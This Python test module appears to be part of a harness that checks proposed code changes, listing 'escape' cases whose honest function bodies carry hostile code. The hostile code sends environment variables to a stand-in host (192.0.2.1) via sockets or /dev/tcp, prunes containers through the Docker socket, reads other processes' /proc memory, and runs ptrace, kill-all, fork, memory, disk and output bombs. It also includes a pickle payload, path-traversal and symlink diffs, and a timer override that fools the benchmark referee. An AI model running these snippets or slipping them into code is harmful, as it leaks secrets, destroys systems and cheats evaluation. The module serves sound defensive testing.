"""Escape: what comes along with a good change reaches for the machine, the network, the referee, or a path outside of the tree."""

from tests.adversarial.corpus import NOT_FASTER, REFUSED, Case
from tests.adversarial.honest import FAST, with_lines

UNIQUE = "almanac/text.py::unique"
COUNTS = "almanac/text.py::word_counts"
KEY = "a fake API key in a published optimizer's environment was read and written out (issue 3)"
ATTACK = "own: what a container should withstand, as the issue lists it"


def reaching(
    name: str, shows: str, caught: str, *, head: str = "", lines: str = "", tail: str = "", idea: str = ATTACK, target: str = UNIQUE
) -> Case:
    """Return a case with an honest body that reaches out when it is imported (`head`, `tail`), or called (`lines`)."""
    return Case(
        name=name,
        family="escape",
        shows=shows,
        idea=idea,
        target=target,
        head=head,
        tail=tail,
        code=with_lines(target, lines) if lines else FAST[target],
        caught=caught,
        outcomes=NOT_FASTER,
        harmless=False,
    )


def raw(name: str, shows: str, caught: str, diff: str, *, idea: str = "patch path traversal, CVE-2010-4651 and CVE-2023-23946") -> Case:
    """Return a case that is a diff as text."""
    return Case(
        name=name, family="escape", shows=shows, idea=idea, target=UNIQUE, diff=diff, caught=caught, outcomes=REFUSED, harmless=False
    )


ADDED = "--- /dev/null\n+++ {path}\n@@ -0,0 +1 @@\n+print('hello')\n"

CASES = (
    reaching(
        "network-reached",
        "network",
        r"socket|network",
        head="""
        import os
        import socket

        try:
            socket.create_connection(("192.0.2.1", 80), timeout=0.2).sendall(repr(dict(os.environ)).encode())
        except OSError:
            pass
        """,
        idea=KEY,
    ),
    reaching(
        "network-reached-roundabout",
        "network",
        r"__import__|getattr|_socket",
        lines="""
        if not getattr(unique, "__doc__", "").endswith("!"):
            unique.__doc__ += "!"
            reach = getattr(__import__("_so" + "cket"), "so" + "cket")(2, 1)
            reach.settimeout(0.2)
            if reach.connect_ex(("192.0.2.1", 80)) == 0:
                reach.send(b"words")
            reach.close()
        """,
        idea=KEY,
    ),
    reaching(
        "network-reached-by-a-program",
        "network",
        r"subprocess|process|os",
        head="""
        import subprocess

        subprocess.run(["sh", "-c", "exec 3<>/dev/tcp/192.0.2.1/80; env >&3"], stderr=subprocess.DEVNULL, timeout=5, check=False)
        """,
        idea=KEY,
    ),
    reaching(
        "engine-asked-for",
        "docker.sock",
        r"socket",
        head="""
        import socket

        with socket.socket(socket.AF_UNIX) as _engine:
            if _engine.connect_ex("/var/run/docker.sock") == 0:
                _engine.sendall(b"POST /containers/prune HTTP/1.0\\r\\n\\r\\n")
        """,
    ),
    reaching(
        "engine-looked-for-roundabout",
        "docker.sock",
        r"importlib|import_module|glob|file|pathlib",
        head="""
        from pathlib import Path as Place

        _found = [place for place in Place("/").glob("*/*/dock*.sock")] + [place for place in Place("/run").glob("**/*.sock")]
        """,
    ),
    reaching(
        "environments-of-others-read",
        "/proc",
        r"open|glob|file|/proc|pathlib",
        head="""
        import glob

        _READ = []
        for _path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
            try:
                with open(_path, "rb") as _file:
                    _READ.append(_file.read())
            except OSError:
                pass
        """,
        idea=KEY,
    ),
    reaching(
        "memory-of-the-worker-written",
        "/proc",
        r"open|os|file|/proc",
        head="""
        import os

        try:
            _memory = os.open(f"/proc/{os.getppid()}/mem", os.O_RDWR)
            os.pread(_memory, 16, 1 << 20)
        except OSError:
            pass
        """,
    ),
    reaching(
        "worker-traced",
        "ptrace",
        r"ctypes|ptrace",
        head="""
        import ctypes
        import os

        ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)
        """,
    ),
    reaching(
        "worker-traced-roundabout",
        "ptrace",
        r"__import__|ctypes|getattr",
        lines="""
        if len(words) > 560:
            made = getattr(__import__("c" + "types"), "CD" + "LL")(None)
            made["pt" + "race"](16, __import__("os").getppid(), 0, 0)
        """,
    ),
    reaching(
        "everybody-killed",
        "kill",
        r"os|kill|signal|died|ended|gone",
        head="""
        import os
        import signal

        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        """,
    ),
    reaching(
        "parent-killed",
        "kill",
        r"os|kill|signal|died|ended|gone|closed",
        head="import os",
        lines="""
        if os.getppid() > 1:
            os.kill(os.getppid(), 9)
        """,
    ),
    reaching(
        "parent-killed-roundabout",
        "kill",
        r"ctypes|__import__|signal|died|ended|gone|closed",
        head="""
        import signal as tools

        _stop = vars(tools).get("pthread" + "_kill")
        """,
        lines="""
        if len(words) == 570:
            __import__("ctypes").pythonapi.kill(__import__("os").getppid(), 9)
        """,
    ),
    reaching(
        "fork-bomb",
        "fork bomb",
        r"fork|os|died|ended|memory|import",
        head="""
        import os
        import time

        if os.environ.get("HOME") == "/work/home":
            for _ in range(16):
                try:
                    if os.fork() == 0:
                        time.sleep(0.01)
                        os.setsid()
                except OSError:
                    pass
        """,
    ),
    reaching(
        "fork-bomb-of-a-shell",
        "fork bomb",
        r"subprocess|os|system|process",
        head="""
        import os

        if os.environ.get("HOME") == "/work/home":
            os.system("b() { b | b & }; b >/dev/null 2>&1 &")
        """,
    ),
    reaching(
        "memory-bomb",
        "memory bomb",
        r"memory|died|ended|at least",
        lines="""
        if len(words) > 500:
            held = [b"x" * (1 << 28) for _ in range(64)]
        """,
    ),
    reaching(
        "memory-that-grows",
        "memory bomb",
        r"memory|remember|_HELD|change|module-level",
        head="""
        _HELD = []
        """,
        lines="_HELD.append(bytes(200_000))",
        idea="own: slow growth from call to call",
    ),
    reaching(
        "disk-filled",
        "disk fill",
        r"open|file|space|os",
        head="""
        import os

        for _place in (".", "/tmp", "/work/out", "/dev/shm"):
            try:
                with open(os.path.join(_place, "full.bin"), "wb") as _file:
                    while True:
                        _file.write(bytes(1 << 24))
            except OSError:
                pass
        """,
    ),
    reaching(
        "inodes-filled",
        "disk fill",
        r"pathlib|file|space|mkdir",
        head="""
        from pathlib import Path

        try:
            for _number in range(600_000):
                (Path("/tmp") / str(_number)).touch()
        except OSError:
            pass
        """,
    ),
    reaching(
        "output-flood",
        "output flood",
        r"sys|stderr|write|output",
        head="""
        import sys

        for _ in range(1000):
            sys.stderr.write("x" * 1_000_000)
        """,
    ),
    reaching(
        "output-flood-past-python",
        "output flood",
        r"os|write|protocol|output|import|descriptor",
        head="""
        import os

        for _descriptor in range(1, 8):
            try:
                for _ in range(150):
                    os.write(_descriptor, b"\\xff" * 1_000_000)
            except OSError:
                pass
        """,
    ),
    reaching(
        "link-in-place-of-a-report",
        "symlink",
        r"os|link|file|test",
        head="""
        import os

        for _name in ("suite.jsonl", "calls-0.bin", "junit.xml"):
            try:
                os.symlink("/etc/hostname", "/work/out/" + _name + ".new")
                os.replace("/work/out/" + _name + ".new", "/work/out/" + _name)
            except OSError:
                pass
        """,
        idea="copying out of a container that follows links: docker cp, CVE-2018-15664",
    ),
    reaching(
        "pickle-for-the-host",
        "path",
        r"open|os|pickle|file",
        head="""
        import os
        import pickle


        class _Run:
            def __reduce__(self):
                return os.system, ("touch /tmp/owned",)


        for _name in ("result.pickle", "calls-0-1-00000000.bin"):
            try:
                with open("/work/out/" + _name, "wb") as _file:
                    pickle.dump(_Run(), _file)
            except OSError:
                pass
        """,
        idea="own: a result that is unpickled by who collects it",
    ),
    raw(
        "path-with-dots",
        "path",
        r"outside|\.\.|invalid path|does not apply",
        ADDED.format(path="b/../../tmp/owned.py"),
    ),
    raw(
        "path-absolute",
        "path",
        r"outside|create|invalid path|does not apply",
        ADDED.format(path="/tmp/owned.py"),
    ),
    raw(
        "path-into-git",
        "path",
        r"outside|\.git|create|invalid path|does not apply",
        ADDED.format(path="b/.git/hooks/post-checkout"),
    ),
    raw(
        "path-by-rename",
        "path",
        r"rename|outside|more than change text|invalid path|does not apply",
        "diff --git a/almanac/text.py b/../owned.py\nsimilarity index 100%\nrename from almanac/text.py\nrename to ../owned.py\n",
    ),
    raw(
        "mode-changed",
        "path",
        r"mode|more than change text",
        "diff --git a/almanac/text.py b/almanac/text.py\nold mode 100644\nnew mode 100755\n",
    ),
    raw(
        "link-out-of-the-tree",
        "symlink",
        r"create|link|120000|more than change text",
        "diff --git a/almanac/out.py b/almanac/out.py\nnew file mode 120000\n--- /dev/null\n+++ b/almanac/out.py\n"
        "@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n",
    ),
    raw(
        "link-and-then-a-file-behind-it",
        "symlink",
        r"create|link|more than change text|beyond|does not apply",
        "diff --git a/out b/out\nnew file mode 120000\n--- /dev/null\n+++ b/out\n@@ -0,0 +1 @@\n+/tmp\n\\ No newline at end of file\n"
        "diff --git a/out/owned.py b/out/owned.py\nnew file mode 100644\n" + ADDED.format(path="b/out/owned.py"),
        idea="git apply behind a link, CVE-2023-23946",
    ),
    raw(
        "file-added-that-python-starts",
        "path",
        r"create|more than change text",
        "diff --git a/sitecustomize.py b/sitecustomize.py\nnew file mode 100644\n--- /dev/null\n+++ b/sitecustomize.py\n"
        "@@ -0,0 +1,3 @@\n+import time\n+\n+time.perf_counter = float\n",
        idea="own: sitecustomize runs before any program",
    ),
    raw(
        "binary-in-a-patch",
        "path",
        r"binary|does not apply|create|more than change text",
        "diff --git a/almanac/text.so b/almanac/text.so\nnew file mode 100755\nindex 0000000..e69de29\n"
        "GIT binary patch\nliteral 0\nHcmV?d00001\n\n",
        idea="own: a compiled module next to the source wins the import",
    ),
    Case(
        name="honest-unique",
        family="escape",
        shows="path",
        idea="the twin: one line of one function",
        target=UNIQUE,
        code='''
        def unique(words):
            """Return the words without repeats, in order of first appearance."""
            seen = set()
            return [word for word in words if not (word in seen or seen.add(word))]
        ''',
        honest=True,
    ),
    Case(
        name="honest-counts-in-two-steps",
        family="escape",
        shows="memory bomb",
        idea="the twin: memory that ends with the call",
        target=COUNTS,
        code='''
        def word_counts(text):
            """Return how often each word occurs, in order of first appearance."""
            words = text.lower().split()
            counts = dict.fromkeys(words, 0)
            for word in words:
                counts[word] += 1
            return counts
        ''',
        honest=True,
    ),
)
